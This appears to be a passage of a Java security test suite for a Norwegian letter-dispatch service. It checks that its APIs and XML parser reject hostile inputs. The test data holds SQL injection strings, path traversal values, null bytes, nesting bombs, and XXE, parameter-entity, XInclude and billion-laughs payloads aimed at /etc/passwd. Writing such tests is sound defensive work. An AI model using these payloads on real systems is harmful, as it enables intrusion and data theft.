        legg(Inntak.OPPSLAG, "søk husnummer -1", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/soek?formaal=skoleplass&adressenavn=Gate&husnummer=-1", m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "søk kommunenummer SQL", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/soek?formaal=skoleplass&kommunenummer=" + q("4601' or '1'='1"), m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "entydig søk with navn only", Forventet.problem(400),
                m -> m.http("GET", "/api/oppslag/entydig?formaal=skoleplass&navn=" + q("' or 1=1 --"), m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "entydig søk identifikasjonsnummer with wrong control digits", Forventet.problem(0),
                m -> m.http("GET", "/api/oppslag/entydig?formaal=skoleplass&navn=" + q("Kari Nordmann") + "&identifikasjonsnummer=" + FNR_FEIL_KONTROLL,
                        m.token("skole"), null, null, Map.of()));
        legg(Inntak.OPPSLAG, "batch body that is not JSON", Forventet.problem(400),
                m -> m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/json", bytes("{ikke"), Map.of()));
        legg(Inntak.OPPSLAG, "batch identer as a string", Forventet.problem(400),
                m -> m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/json", bytes("{\"identer\":\"" + FNR + "\"}"), Map.of()));
        legg(Inntak.OPPSLAG, "batch of 1,001 identity numbers", Forventet.problem(400), m -> {
            var liste = JSON.createObjectNode();
            var identer1001 = liste.putArray("identer");
            for (int i = 0; i < 1001; i++) {
                identer1001.add(UKJENT_IDENT);
            }
            return m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/json", bytes(liste.toString()), Map.of());
        });
        legg(Inntak.OPPSLAG, "batch with invalid numbers among valid", Forventet.problem(400),
                m -> m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/json",
                        bytes("{\"identer\":[\"" + UKJENT_IDENT + "\",\"" + FNR_FEIL_KONTROLL + "\",123,null]}"), Map.of()));
        legg(Inntak.OPPSLAG, "batch as XML with an external entity", Forventet.problem(0),
                m -> m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/xml", bytes(XXE_FIL), Map.of()));
        legg(Inntak.OPPSLAG, "batch nested 5,000 levels deep", Forventet.problem(400),
                m -> m.http("POST", "/api/oppslag/personer?formaal=skoleplass", m.token("skole"), "application/json",
                        bytes("{\"identer\":" + "[".repeat(5000) + "]".repeat(5000) + "}"), Map.of()));
    }

    // ---------------------------------------------------------------- admin endpoints and the letter read API

    private void admin() {
        List<String> ugyldigeIder = List.of("ikke-en-uuid", "' or '1'='1", "..%2F..%2Fetc%2Fpasswd", "%00", "1".repeat(500));
        for (String id : ugyldigeIder) {
            String vist = vis(id);
            legg(Inntak.ADMIN, "GET /api/forsendelser/{id} " + vist, Forventet.problem(0), m -> m.http("GET", "/api/forsendelser/" + id, m.token("skole"), null, null, Map.of()));
            legg(Inntak.ADMIN, "POST /api/forsendelser/{id}/redrive " + vist, Forventet.problem(0),
                    m -> m.http("POST", "/api/forsendelser/" + id + "/redrive", m.token("skole"), "application/json", bytes("{}"), Map.of()));
            legg(Inntak.ADMIN, "POST /api/manuell/{id}/loest " + vist, Forventet.problem(0),
                    m -> m.http("POST", "/api/manuell/" + id + "/loest", m.token("integrasjon"), "application/json", bytes("{\"loestAv\":\"r5\"}"), Map.of()));
            legg(Inntak.ADMIN, "POST /api/dead-letters/{id}/redrive " + vist, Forventet.problem(0),
                    m -> m.http("POST", "/api/dead-letters/" + id + "/redrive", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        }
        legg(Inntak.ADMIN, "a fagsystem reading another fagsystem's letter", Forventet.problem(404),
                m -> m.http("GET", "/api/forsendelser/" + m.andresBrev(), m.token("skole"), null, null, Map.of()));
        legg(Inntak.ADMIN, "a fagsystem redriving another fagsystem's letter", Forventet.problem(404),
                m -> m.http("POST", "/api/forsendelser/" + m.andresBrev() + "/redrive", m.token("skole"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "a fagsystem searching another fagsystem's letters", Forventet.problem(0),
                m -> m.http("GET", "/api/forsendelser?avsenderSystem=barnevern&eksternReferanse=x", m.token("skole"), null, null, Map.of()));
        for (String injeksjon : INJEKSJONER.subList(0, 6)) {
            legg(Inntak.ADMIN, "GET /api/forsendelser eksternReferanse " + vis(injeksjon), Forventet.problem(404),
                    m -> m.http("GET", "/api/forsendelser?avsenderSystem=skole&eksternReferanse=" + q(injeksjon), m.token("skole"), null, null, Map.of()));
        }
        legg(Inntak.ADMIN, "GET /api/forsendelser without parameters", Forventet.problem(400), m -> m.http("GET", "/api/forsendelser", m.token("skole"), null, null, Map.of()));
        legg(Inntak.ADMIN, "POST /api/manuell/{id}/loest without loestAv", Forventet.problem(0),
                m -> m.http("POST", "/api/manuell/" + UUID.randomUUID() + "/loest", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "POST /api/manuell/{id}/loest body not JSON", Forventet.problem(0),
                m -> m.http("POST", "/api/manuell/" + UUID.randomUUID() + "/loest", m.token("integrasjon"), "application/json", bytes("{ikke"), Map.of()));
        legg(Inntak.ADMIN, "POST /api/manuell/{id}/loest loestAv as an object", Forventet.problem(0),
                m -> m.http("POST", "/api/manuell/" + UUID.randomUUID() + "/loest", m.token("integrasjon"), "application/json", bytes("{\"loestAv\":{\"a\":1}}"), Map.of()));
        legg(Inntak.ADMIN, "GET /api/dead-letters?alle=kanskje is read as false", Forventet.uendret(), m -> m.http("GET", "/api/dead-letters?alle=kanskje", m.token("integrasjon"), null, null, Map.of()));
        for (String fagsystem : List.of("ukjent", "..%2F..%2Fetc", "' or '1'='1", "%00")) {
            legg(Inntak.ADMIN, "POST /api/fagsystemer/{fagsystem}/replay " + vis(fagsystem), Forventet.problem(0),
                    m -> m.http("POST", "/api/fagsystemer/" + fagsystem + "/replay?fra=1&til=2", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
            legg(Inntak.ADMIN, "POST /api/fagsystemer/{fagsystem}/lever-naa " + vis(fagsystem), Forventet.problem(0),
                    m -> m.http("POST", "/api/fagsystemer/" + fagsystem + "/lever-naa", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        }
        legg(Inntak.ADMIN, "POST replay with fra=abc", Forventet.problem(400),
                m -> m.http("POST", "/api/fagsystemer/skole/replay?fra=abc&til=2", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "POST replay with fra after til", Forventet.problem(400),
                m -> m.http("POST", "/api/fagsystemer/skole/replay?fra=9&til=2", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "POST replay with til = Long.MAX_VALUE + 1", Forventet.problem(400),
                m -> m.http("POST", "/api/fagsystemer/skole/replay?fra=1&til=9223372036854775808", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "PUT portefolje/{ident} with wrong control digits", Forventet.problem(400),
                m -> m.http("PUT", "/api/fagsystemer/skole/portefolje/" + FNR_FEIL_KONTROLL, m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "PUT portefolje/{ident} SQL", Forventet.problem(400),
                m -> m.http("PUT", "/api/fagsystemer/skole/portefolje/" + q("' or '1'='1"), m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        legg(Inntak.ADMIN, "PUT portefolje for an unknown fagsystem", Forventet.problem(0),
                m -> m.http("PUT", "/api/fagsystemer/ukjent/portefolje/" + UKJENT_IDENT, m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        for (String ident : List.of(FNR_FEIL_KONTROLL, "abc", "' or '1'='1", "1".repeat(500))) {
            legg(Inntak.ADMIN, "GET /api/innsyn/{ident} " + vis(ident), Forventet.problem(400),
                    m -> m.http("GET", "/api/innsyn/" + q(ident), m.token("integrasjon"), null, null, Map.of()));
        }
        for (String utloeser : List.of("ukjent", "..%2F..%2Fconfig", "' or '1'='1")) {
            legg(Inntak.ADMIN, "POST /api/proaktiv/{utloeser}/proevekjoering " + vis(utloeser), Forventet.problem(utloeser.contains("%2F") ? 400 : 404),
                    m -> m.http("POST", "/api/proaktiv/" + utloeser + "/proevekjoering", m.token("integrasjon"), "application/json", bytes("{}"), Map.of()));
        }
        legg(Inntak.ADMIN, "POST /api/diagnostics/ping body not JSON", Forventet.problem(0),
                m -> m.http("POST", "/api/diagnostics/ping", m.token("integrasjon"), "application/json", bytes("{ikke"), Map.of()));
        legg(Inntak.ADMIN, "an unknown path under /api", Forventet.problem(0), m -> m.http("GET", "/api/finnes-ikke", m.token("integrasjon"), null, null, Map.of()));
        legg(Inntak.ADMIN, "a path traversal to the actuator's env", Forventet.problem(0),
                m -> m.http("GET", "/api/..;/actuator/env", m.token("integrasjon"), null, null, Map.of()));
        legg(Inntak.ADMIN, "DELETE on the letter API", Forventet.problem(0), m -> m.http("DELETE", "/api/forsendelser/" + UUID.randomUUID(), m.token("integrasjon"), null, null, Map.of()));
        // Java's client sends Content-Length: 0 with TRACE; Tomcat's parser refuses that before any valve (docs/reliability.md)
        legg(Inntak.ADMIN, "TRACE on the letter API", Forventet.tom4xx(), m -> m.http("TRACE", "/api/forsendelser", m.token("integrasjon"), null, null, Map.of()));
    }

    // ---------------------------------------------------------------- the platform's XML parser

    static final String XXE_FIL = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";

    private void xml() {
        Map<String, String> dokumenter = new LinkedHashMap<>();
        dokumenter.put("an external entity (file:///etc/passwd)", XXE_FIL);
        dokumenter.put("an external entity over HTTP", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:1/x\">]><r>&x;</r>");
        dokumenter.put("a parameter entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><r/>");
        dokumenter.put("an external DTD", "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://127.0.0.1:1/r.dtd\"><r/>");
        dokumenter.put("a billion laughs", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><r>&d;</r>");
        dokumenter.put("a SOAP answer with an entity in the body",
                "<?xml version=\"1.0\"?><!DOCTYPE e [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                        + "<soap:Body><svar>&x;</svar></soap:Body></soap:Envelope>");
        dokumenter.put("XInclude of a local file", "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>");
        dokumenter.put("not XML at all", "{\"ikke\":\"xml\"}");
        for (Map.Entry<String, String> d : dokumenter.entrySet()) {
            legg(Inntak.XML, "Xml.parse: " + d.getKey(), Forventet.xml(), m -> xmlParse(d.getValue()));
        }
    }

    /** Refused = an IllegalArgumentException that does not quote the document; parsed = nothing fetched, included or expanded. */
    private static Tilfelle.Utfall xmlParse(String tekst) {
        try {
            var dokument = Xml.parse(tekst);
            String innhold = dokument.getDocumentElement().getTextContent();
            boolean fulgt = innhold.contains("root:") || innhold.length() > 1000;
            return new Tilfelle.Utfall(200, "xml", "parsed; nothing fetched, included or expanded",
                    fulgt ? "the parser expanded an entity or followed an include" : null);
        } catch (IllegalArgumentException e) {
            String melding = String.valueOf(e.getMessage());
            // the message goes to the log and a dead letter, never to a caller; it must not quote the document
            return new Tilfelle.Utfall(400, "xml", "refused", melding.contains("ENTITY") || melding.contains("passwd") ? "the refusal quotes the document" : null);
        }
    }

    // ---------------------------------------------------------------- helpers

    static ObjectNode metadata() {
        ObjectNode m = JSON.createObjectNode()
                .put("avsenderSystem", "skole")
                .put("eksternReferanse", "r5-" + UUID.randomUUID())
                .put("tittel", "Vedtak om skoleskyss")
                .put("mottaker", FNR)
                .put("brevtype", "FORMELL");
        m.putArray("dokumenter").addObject().put("filnavn", "vedtak.pdf").put("mimeType", "application/pdf");
        return m;
    }

    static ObjectNode metadata(Consumer<ObjectNode> endring) {
        ObjectNode m = metadata();
        endring.accept(m);
        return m;
    }

    /** Each document gets {@code pdf} inline as base64 (JMS, SFTP inline). */
    static ObjectNode inline(ObjectNode m, byte[] pdf) {
        if (m.path("dokumenter").isArray()) {
            m.withArray("dokumenter").forEach(d -> ((ObjectNode) d).put("innhold", Base64.getEncoder().encodeToString(pdf)));
        }
        return m;
    }

    private static Tilfelle.Utfall rest(Inntaksmiljoe m, String klient, ObjectNode metadata) {
        return restMedToken(m, m.token(klient), metadata, Map.of("vedtak.pdf", PDF));
    }

    private static Tilfelle.Utfall rest(Inntaksmiljoe m, String klient, ObjectNode metadata, Map<String, byte[]> filer) {
        return restMedToken(m, m.token(klient), metadata, filer);
    }

    private static Tilfelle.Utfall restMedToken(Inntaksmiljoe m, String token, ObjectNode metadata, Map<String, byte[]> filer) {
        return m.http("POST", "/api/forsendelser", token, "multipart/form-data; boundary=r5grense", multipart("r5grense", metadata.toString(), filer), Map.of());
    }

    private static Tilfelle.Utfall restRaa(Inntaksmiljoe m, String metadata, Map<String, byte[]> filer) {
        return m.http("POST", "/api/forsendelser", m.token("skole"), "multipart/form-data; boundary=r5grense", multipart("r5grense", metadata, filer), Map.of());
    }

    /** A valid letter whose title is {@code tittel}: accepted, and stored with exactly that title. */
    private static Tilfelle.Utfall restUendret(Inntaksmiljoe m, String tittel) {
        ObjectNode md = metadata(x -> x.put("tittel", tittel));
        Tilfelle.Utfall svar = rest(m, "skole", md);
        if (svar.status() / 100 != 2) {
            return svar;
        }
        String lagret = m.jdbc().queryForObject("select tittel from brev where avsender_system = 'skole' and ekstern_referanse = ?", String.class,
                md.get("eksternReferanse").asText());
        return new Tilfelle.Utfall(svar.status(), svar.innholdstype(), svar.svar(), tittel.equals(lagret) ? null : "stored title differs from the one sent");
    }

    private static Tilfelle.Utfall jms(Inntaksmiljoe m, String bruker, String tekst) {
        return m.jms(bruker, s -> s.createTextMessage(tekst));
    }

    /** A manifest in {@code bruker}'s folder naming one PDF; {@code pdf} null = the file it names is not uploaded. */
    private static Tilfelle.Utfall sftp(Inntaksmiljoe m, String bruker, Consumer<ObjectNode> endring, byte[] pdf) {
        String navn = "r5-" + UUID.randomUUID();
        ObjectNode md = metadata();
        ((ObjectNode) md.withArray("dokumenter").get(0)).remove("filnavn");
        ((ObjectNode) md.withArray("dokumenter").get(0)).put("fil", navn + ".pdf").put("filnavn", "vedtak.pdf");
        endring.accept(md);
        return m.sftp(bruker, navn, bytes(md.toString()), pdf == null ? Map.of() : Map.of(navn + ".pdf", pdf));
    }

    static byte[] multipart(String grense, String metadata, Map<String, byte[]> filer) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        if (metadata != null) {
            body.writeBytes(("--" + grense + "\r\nContent-Disposition: form-data; name=\"metadata\"\r\nContent-Type: application/json\r\n\r\n"
                    + metadata + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        int i = 0;
        for (Map.Entry<String, byte[]> fil : filer.entrySet()) {
            body.writeBytes(("--" + grense + "\r\nContent-Disposition: form-data; name=\"dokument" + (++i) + "\"; filename=\"" + fil.getKey()
                    + "\"\r\nContent-Type: application/pdf\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.writeBytes(fil.getValue());
            body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + grense + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    /** A one-page PDF whose catalog holds arrays nested {@code dybde} deep: a recursive parser runs out of stack. */
    static byte[] dyptNestet(int dybde) {
        String pdf = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X " + "[".repeat(dybde) + "]".repeat(dybde) + " >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
                + "trailer\n<< /Root 1 0 R >>\n%%EOF\n";
        return bytes(pdf);
    }

    private static byte[] tom(String metode) {
        return metode.equals("GET") ? null : bytes("{}");
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(bytes(s));
    }

    private static String q(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    /** A hostile string as the report shows it: control and invisible characters as U+XXXX, long runs shortened. */
    static String vis(String s) {
        StringBuilder b = new StringBuilder("\"");
        s.codePoints().limit(60).forEach(c -> b.append(c < 0x20 || c == 0x7f || Character.getType(c) == Character.FORMAT || c > 0xff && c < 0x3000 && !Character.isLetter(c)
                ? "U+%04X".formatted(c) : Character.toString(c)));
        return b.append(s.length() > 60 ? "…(" + s.length() + " chars)\"" : "\"").toString();
    }
}
